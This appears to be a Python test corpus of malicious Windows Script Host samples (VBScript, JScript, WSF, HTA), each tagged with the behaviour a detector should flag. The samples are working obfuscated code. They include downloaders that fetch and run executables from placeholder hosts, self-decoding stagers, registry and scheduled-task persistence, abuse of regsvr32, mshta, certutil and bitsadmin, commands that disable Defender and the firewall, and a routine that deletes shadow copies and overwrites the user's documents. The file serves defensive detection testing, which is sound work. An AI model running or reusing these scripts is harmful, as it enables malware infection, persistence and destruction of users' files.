"""Scripts that act badly on Windows, disguised in the ways that are common."""

from __future__ import annotations

import base64

from gateway.emulation.scripts.encoded import encoded
from tools.corpus.detections.case import Case, script
from tools.corpus.detections.collected import scripts


def _codes(text: str) -> str:
    return ",".join(str(ord(char)) for char in text)


def _chr_chain(text: str) -> str:
    return " & ".join(f"Chr({ord(char)})" for char in text)


def _base64(text: str, codec: str = "utf-8") -> str:
    return base64.b64encode(text.encode(codec)).decode()


_STAGE = 'CreateObject("WScript.Shell").Run "cmd /c certutil -decode a.txt a.exe & a.exe", 0'

WSH_BAD: tuple[Case, ...] = (
    script(
        "downloader.vbs",
        "vbscript",
        """On Error Resume Next
Dim sh, url, target
Set sh = CreateObject("WSc" & "ript.Sh" & "ell")
url = Join(Array("ht", "tp:/", "/cdn", ".exam", "ple/", "inv.e", "xe"), "")
target = sh.ExpandEnvironmentStrings("%" & "TEMP%") & "\\" & Replace("sv##host.exe", "##", "c")
Set http = CreateObject(StrReverse("PTTHLMX.2LMXSM"))
http.Open "GET", url, False
http.Send
If http.Status = 200 Then
  With CreateObject("ADODB.Stream")
    .Type = 1
    .Open
    .Write http.ResponseBody
    .SaveToFile target, 2
    .Close
  End With
  sh.Run Chr(34) & target & Chr(34), 0, False
End If
""",
        "windows-download-and-run",
    ),
    script(
        "chr-chain.vbs",
        "vbscript",
        f"""Dim a
a = {_chr_chain("powershell -w hidden -c IEX (New-Object Net.WebClient)")}
a = a & {_chr_chain(".DownloadString('http://pay.example/s')")}
GetObject("new:{{72C24DD5-D70A-438B-8A42-98424B88AFB8}}").Run a, 0
""",
        "powershell-downloads",
    ),
    script(
        "self-decoding.vbs",
        "vbscript",
        f"""Function Build(codes, key)
  Dim part, out
  For Each part In Split(codes, ",")
    out = out & Chr(CInt(part) Xor key)
  Next
  Build = out
End Function
Execute Build("{",".join(str(ord(c) ^ 23) for c in _STAGE)}", 23)
""",
        "decodes-code-and-acts",
    ),
    script(
        "base64-node.vbs",
        "vbscript",
        f"""Function Decode(text)
  Dim node
  Set node = CreateObject("Msxml2.DOMDocument.3.0").CreateElement("b64")
  node.DataType = "bin.base64"
  node.Text = text
  Dim s : Set s = CreateObject("ADODB.Stream")
  s.Type = 1 : s.Open : s.Write node.nodeTypedValue
  s.Position = 0 : s.Type = 2 : s.CharSet = "us-ascii"
  Decode = s.ReadText
End Function
ExecuteGlobal Decode("{_base64(_STAGE)}")
""",
        "decodes-code-and-acts",
    ),
    script(
        "persistence.vbs",
        "vbscript",
        """Set fso = CreateObject("Scripting.FileSystemObject")
Set sh = WScript.CreateObject("WScript.Shell")
home = sh.SpecialFolders("AppData") & "\\Updater.vbs"
fso.CopyFile WScript.ScriptFullName, home, True
key = "HKCU\\Software\\Microsoft\\Windows\\" & "Current" & "Version\\R" & "un\\Updater"
sh.RegWrite key, "wscript.exe //B " & Chr(34) & home & Chr(34), "REG_SZ"
""",
        "registry-autostart",
    ),
    script(
        "wmi-process.vbs",
        "vbscript",
        """Set locator = CreateObject("WbemScripting.SWbemLocator")
Set service = locator.ConnectServer(".", "root\\cimv2")
Set start = service.Get("Win32_ProcessStartup").SpawnInstance_
start.ShowWindow = 0
line = "regsvr32 /s /n /u /i:http://cdn.example/x.sct scrobj.dll"
result = service.Get("Win32_Process").Create(line, Null, start, pid)
""",
        "system-program-misused",
    ),
    script(
        "extortion.vbs",
        "vbscript",
        """Set fso = CreateObject("Scripting.FileSystemObject")
Set sh = CreateObject("WScript.Shell")
sh.Run "vssadmin delete shadows /all /quiet", 0, True
Sub Walk(folder)
  Dim file, child
  For Each file In folder.Files
    Set stream = fso.OpenTextFile(file.Path, 2, True)
    stream.Write "0123456789"
    stream.Close
    fso.MoveFile file.Path, file.Path & ".locked"
  Next
  For Each child In folder.SubFolders
    Walk child
  Next
End Sub
Walk fso.GetFolder(sh.SpecialFolders("MyDocuments"))
""",
        "rewrites-windows-documents",
    ),
    script(
        "defence.vbs",
        "vbscript",
        """Dim parts(2)
parts(0) = "net stop WinDefend" : parts(1) = "netsh advfirewall set allprofiles state off"
parts(2) = "bcdedit /set {default} recoveryenabled No"
For Each p In parts
  CreateObject("Shell.Application").ShellExecute "cmd.exe", "/c " & p, "", "runas", 0
Next
""",
        "disables-windows-defences",
    ),
    script(
        "downloader.js",
        "javascript",
        """var _0x = ["\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2E\\x53\\x68\\x65\\x6C\\x6C", "MSXML2.XMLHTTP"];
function get(n) { return new ActiveXObject(_0x[n]); }
var shell = get(0), req = get(1);
var hosts = "cdn.example,files.example,198.51.100.7".split(",");
for (var i in hosts) {
  try {
    req.open("GET", "http://" + hosts[i] + "/load?id=" + Math.random(), false);
    req.send();
    if (req.status == 200) {
      var st = new ActiveXObject("ADODB" + "." + "Stream");
      st.open(); st.type = 1; st.write(req.ResponseBody); st.position = 0;
      var path = shell.ExpandEnvironmentStrings("%TEMP%") + "\\\\" + (7).toString(36) + ".exe";
      st.saveToFile(path, 2); st.close();
      shell["R" + "un"](path, 0, 0);
      break;
    }
  } catch (e) {}
}
""",
        "windows-download-and-run",
    ),
    script(
        "eval-array.js",
        "javascript",
        f"""var c = [{_codes("new ActiveXObject('WScript.Shell').Run('mshta http://a.example/b.hta')")}];
var s = '';
for (var i = 0; i < c.length; i++) s += String.fromCharCode(c[i]);
this[['e','v','a','l'].join('')](s);
""",
        "shell-downloads",
    ),
    script(
        "callbacks.js",
        "javascript",
        """(function (list, f) { list.map(f).forEach(function (g) { g(); }); })(
  ['lleh' + 'S.tpircSW', 'dnuor', 0].filter(function (x) { return x.length > 6; }),
  function (name) {
    return function () {
      var o = new ActiveXObject(name.split('').reverse().join(''));
      var q = String.fromCharCode(34);
      o.Exec('cmd /c echo x> %TEMP%\\\\a.js & wscript ' + q + '%TEMP%\\\\a.js' + q);
    };
  });
""",
        "shell-writes-and-runs-script",
    ),
    script(
        "remote-eval.js",
        "javascript",
        """var h = WScript.CreateObject('WinHttp.WinHttpRequest.5.1');
h.Open('GET', unescape('%68%74%74%70%3A//c2.example/stage'), false);
h.Send();
eval(h.ResponseText);
""",
        "runs-code-from-network",
    ),
    script(
        "task.js",
        "javascript",
        """/*@cc_on
@if (@_jscript_version >= 5)
var s = new ActiveXObject("Schedule.Service");
s.Connect();
var d = s.NewTask(0);
d.Triggers.Create(9);
var a = d.Actions.Create(0);
a.Path = "powershell.exe"; a.Arguments = "-ep bypass -f %APPDATA%\\\\u.ps1";
s.GetFolder("\\\\").RegisterTaskDefinition("Updater", d, 6, "", "", 3);
@end @*/
""",
        "scheduled-suspect-task",
    ),
    Case(
        "encoded.vbe",
        "vbscript",
        lambda: encoded(
            'Set s = CreateObject("WScript.Shell")\r\n'
            's.Run "bitsadmin /transfer j http://a.example/x.exe %TEMP%\\x.exe", 0, True\r\n'
            's.Run "%TEMP%\\x.exe"\r\n'
        ).encode("cp1252"),
        "shell-downloads",
    ),
    script(
        "two-languages.wsf",
        "wsf",
        f"""<?xml version="1.0"?>
<package><job id="main">
<script language="JScript"><![CDATA[
function unpack(t) {{ return t.replace(/~/g, ''); }}
]]></script>
<script language="VBScript"><![CDATA[
enc = "{_base64("Start-Process calc", "utf-16-le")}"
CreateObject("WScript.Shell").Run unpack("po~wer~she~ll -no~p -e~nc ") & enc, 0
]]></script>
</job></package>
""",
        "powershell-downloads",
    ),
    script(
        "invoice.hta",
        "hta",
        """<html><head><title>Invoice</title>
<HTA:APPLICATION ID="a" WINDOWSTATE="minimize" SHOWINTASKBAR="no">
<script language="JScript">
function go() {
  var parts = document.getElementById("data").innerText.split("|");
  var out = "";
  for (var i = parts.length - 1; i >= 0; i--) out += parts[i];
  window.setTimeout(function () {
    new ActiveXObject("Shell.Application").ShellExecute("cmd.exe", "/c " + out, "", "open", 0);
    window.close();
  }, 1500);
}
</script></head>
<body onload="go()"><span id="data">start %TEMP%\\p.exe|.example/p.exe %TEMP%\\p.exe & |http://dl|certutil -urlcache -f </span></body></html>
""",
        "shell-downloads",
    ),
    script(
        "base64.hta",
        "hta",
        f"""<html><head><hta:application id="x"></head>
<body><div id="data" style="display:none">{_base64("powershell -c iex(1)")}</div>
<script language="javascript">
function unpack(s) {{
  var node = new ActiveXObject("Microsoft.XMLDOM").createElement("t");
  node.dataType = "bin.base64"; node.text = s;
  var stream = new ActiveXObject("ADODB.Stream");
  stream.Type = 1; stream.Open(); stream.Write(node.nodeTypedValue);
  stream.Position = 0; stream.Type = 2; stream.Charset = "us-ascii";
  return stream.ReadText();
}}
setTimeout(function () {{
  new ActiveXObject("WScript.Shell").Run(unpack(document.all.data.innerText), 0);
}}, 100);
</script></body></html>
""",
        "powershell-downloads",
    ),
    script(
        "startup.hta",
        "hta",
        """<script language="VBScript">
Sub Window_OnLoad
  Set sh = CreateObject("WScript.Shell")
  Set fso = CreateObject("Scripting.FileSystemObject")
  Set f = fso.CreateTextFile(sh.SpecialFolders("Startup") & "\\sync.vbs", True)
  f.WriteLine "CreateObject(""WScript.Shell"").Run ""notepad"" "
  f.Close
  Self.Close
End Sub
</script>
""",
        "startup-folder",
    ),
    *scripts("wsh_bad"),
)
